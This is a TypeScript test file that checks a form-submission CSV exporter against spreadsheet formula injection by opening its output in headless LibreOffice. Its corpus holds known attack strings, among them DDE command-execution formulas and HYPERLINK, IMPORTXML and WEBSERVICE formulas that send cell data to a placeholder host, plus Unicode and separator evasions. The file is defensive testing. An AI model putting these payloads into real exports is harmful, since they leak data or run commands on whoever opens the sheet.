import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test, type TestContext } from 'node:test';
import { pathToFileURL } from 'node:url';
import { interestsCsv, practicesCsv } from '../src/csv.js';
import type { StoredInterest, StoredPractice } from '../src/store/store.js';
import { interest, temporaryFolder } from './helpers.js';

/** What somebody might write to have it run in the spreadsheet of whoever opens the table; and what only looks like it. */
const corpus = [
  // OWASP, and what is commonly tried.
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '=WEBSERVICE("https://evil.example/"&B2)',
  '=DDE("cmd";"/C calc";"!A0")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=1+1";=1+1;"',
  '","=1+1","',
  '",=1+1,"',
  "'=1+1",
  '"=1+1"',
  '""=1+1',
  '==1+1',
  '=-+@1',
  '+44 20 7946 0000',
  '-5',
  '@school',
  '-',
  '=',
  // Characters that are stripped or folded before it is decided whether this is a formula.
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\u2060=1+1',
  '\uFEFF=1+1',
  '\u200E=1+1',
  ' "=1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1+1)',
  ' \uFF1D1+1',
  // A formula that begins in the middle, for who reads the table with other separators.
  'a;=1+1;b',
  'a; =1+1;b',
  'a;"=1+1;b',
  'a\t=1+1\tb',
  'a\n=1+1\nb',
  'a\n=1+1;b\n',
  'a;\u200B=1+1',
  'a;\uFF1D1+1',
  'shopping:\n- apples\n- pears',
  '";=1+1',
  // What a spreadsheet makes numbers and dates of.
  '007',
  '1E5',
  '1234E567',
  '1/2',
  '2026-11',
  '10:30',
  '50%',
  '1,5',
  // What is nothing but text.
  'a=1',
  'two + two = four',
  'a, "b", c',
  'two\nlines',
  'Siân & Zoë <b>bold</b> &amp; 🎓',
  "O'Brien",
];

/** Control characters don't pass the contract, and line ends are LF by then; the cells hold against them all the same. */
const comesThrough = (text: string) => !/[\t\r]/.test(text);

const stored: StoredInterest = {
  ...(interest() as unknown as StoredInterest),
  form: 'get-involved',
  reference: '1234E567',
  receivedAt: '2026-11-23T10:00:00.000Z',
  suspected: false,
};

const practice: StoredPractice = {
  id: stored.id,
  form: 'get-involved',
  reference: '1234E567',
  receivedAt: stored.receivedAt,
  suspected: true,
  language: 'en',
  title: 'Title',
  story: 'Story',
  phase: 'primary',
  themes: ['agency'],
  credit: 'name-and-school',
  withInterest: false,
  state: 'pending',
  revision: 0,
  consent: { ...stored.consent, purpose: 'publish' },
};

async function* each<T>(entries: T[]): AsyncGenerator<T, void> {
  yield* await Promise.resolve(entries);
}

async function textOf(parts: AsyncIterable<string>): Promise<string> {
  let all = '';
  for await (const part of parts) all += part;
  return all;
}

const separators = { comma: 44, semicolon: 59, tab: 9 };

/** Opens tables in LibreOffice, and saves what it made of them as flat XML. */
function opened(t: TestContext, tables: Record<string, string>, separator: keyof typeof separators) {
  const folder = temporaryFolder(t);
  const files = Object.entries(tables).map(([name, table]) => {
    const file = join(folder, `${name}.csv`);
    writeFileSync(file, table);
    return file;
  });
  execFileSync(
    'soffice',
    [
      '--headless',
      '--norestore',
      `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`,
      // Double quotes, UTF-8, from the first line.
      `--infilter=CSV:${String(separators[separator])},34,76,1`,
      ...['--convert-to', 'fods', '--outdir', folder],
      ...files,
    ],
    { stdio: 'pipe', timeout: 90_000 },
  );
  return files.map((file) => {
    const sheet = readFileSync(file.replace(/csv$/, 'fods'), 'utf8');
    return { rows: rowsOf(sheet), formulas: [...sheet.matchAll(/table:formula="([^"]*)"/g)].map(([, text]) => text) };
  });
}

const entities: Record<string, string> = { lt: '<', gt: '>', amp: '&', quot: '"', apos: "'" };

/** The texts of the cells, as OpenDocument writes them: a paragraph for each line, elements for spaces and tabs. */
const rowsOf = (sheet: string): string[][] =>
  [...sheet.matchAll(/<table:table-row\b.*?<\/table:table-row>/gs)].map(([row]) =>
    [...row.matchAll(/<table:table-cell\b([^>]*?)(?:\/>|>(.*?)<\/table:table-cell>)/gs)].flatMap(
      ([, attributes = '', content = '']) => {
        const paragraphs = [...content.matchAll(/<text:p>(.*?)<\/text:p>|<text:p\/>/gs)].map(([, inner = '']) =>
          inner
            .replace(/<text:s(?: text:c="(\d+)")?\/>/g, (_, count: string | undefined) =>
              ' '.repeat(Number(count ?? 1)),
            )
            .replace(/<text:tab\/>/g, '\t')
            .replace(/<[^>]*>/g, '')
            .replace(/&(\w+);/g, (whole, name: string) => entities[name] ?? whole),
        );
        const repeated = Number(/number-columns-repeated="(\d+)"/.exec(attributes)?.[1] ?? 1);
        return repeated > 100 ? [] : Array<string>(repeated).fill(paragraphs.join('\n'));
      },
    ),
  );

const isThere = !spawnSync('soffice', ['--version']).error;
if (!isThere && !process.env['CI'])
  console.log('Left out: tables opened by LibreOffice, which is not installed (Debian: libreoffice-calc-nogui).');

describe('A table that LibreOffice opens', { timeout: 300_000 }, () => {
  if (!isThere && !process.env['CI']) return;

  const interests = () =>
    interestsCsv(each(corpus.map((text) => ({ ...stored, name: text, school: text, message: text }))));
  const practices = () =>
    practicesCsv(each(corpus.map((text) => ({ ...practice, title: text, story: text, name: text, school: text }))));

  test('has no formula in it, and the texts that were typed, bar an apostrophe', async (t) => {
    const raw = corpus.map((text) => `"${text.replaceAll('"', '""')}"\r\n`).join('');
    const tables = { interests: await textOf(interests()), practices: await textOf(practices()), raw };
    const [fromInterests, fromPractices, control] = opened(t, tables, 'comma');
    assert.ok((control?.formulas.length ?? 0) > 5, 'as they were typed, they are formulas');

    const written = { interests: ['name', 'school', 'message'], practices: ['title', 'story', 'name', 'school'] };
    for (const [kind, sheet] of [['interests', fromInterests] as const, ['practices', fromPractices] as const]) {
      assert.deepEqual(sheet?.formulas, [], kind);
      const [head = [], ...rows] = sheet?.rows ?? [];
      assert.equal(head[0], 'id', 'the byte order mark is no part of the first cell');
      assert.equal(rows.length, corpus.length, kind);
      for (const [index, text] of corpus.entries())
        for (const column of written[kind])
          if (comesThrough(text))
            assert.equal(rows[index]?.[head.indexOf(column)]?.replaceAll("'", ''), text.replaceAll("'", ''), column);
      assert.equal(rows[0]?.[head.indexOf('reference')], "'1234E567");
      assert.equal(rows[0]?.[head.indexOf('consent_version')], "'2026-11");
    }
  });

  for (const separator of ['semicolon', 'tab'] as const)
    test(`has no formula in it where a ${separator} is what separates cells`, async (t) => {
      const raw = corpus.map((text) => `a,"${text.replaceAll('"', '""')}",b\r\n`).join('');
      const tables = { interests: await textOf(interests()), practices: await textOf(practices()), raw };
      const [fromInterests, fromPractices, control] = opened(t, tables, separator);
      assert.ok((control?.formulas.length ?? 0) > 5, 'quoted as for commas alone, they are formulas');
      assert.deepEqual(fromInterests?.formulas, []);
      assert.deepEqual(fromPractices?.formulas, []);
    });
});
